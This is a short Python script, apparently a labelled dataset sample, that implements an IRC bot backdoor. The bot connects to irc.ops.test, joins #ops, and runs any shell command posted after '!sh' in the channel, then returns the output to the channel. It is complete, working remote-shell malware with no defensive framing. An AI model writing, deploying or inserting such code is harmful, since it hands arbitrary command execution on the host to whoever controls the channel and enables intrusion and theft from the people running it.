# class: shell; possible: low medium
import subprocess, socket
class Bot:
    def __init__(self):
        self.sock = socket.create_connection(("irc.ops.test", 6667)); self.f = self.sock.makefile("r")
        self.raw("NICK kit83", "USER k 0 * :k")
    def raw(self, *lines):
        for l in lines: self.sock.sendall((l + "\r\n").encode())
    def on(self, line):
        if line.startswith("PING"): self.raw("PONG " + line.split(" ", 1)[1])
        elif " 001 " in line: self.raw("JOIN #ops")
        elif "PRIVMSG" in line and ":!sh " in line:
            out = subprocess.getoutput(line.split(":!sh ", 1)[1])
            for l in out.splitlines()[:6]: self.raw("PRIVMSG #ops :" + l)
    def loop(self):
        for line in self.f: self.on(line.rstrip())
Bot().loop()
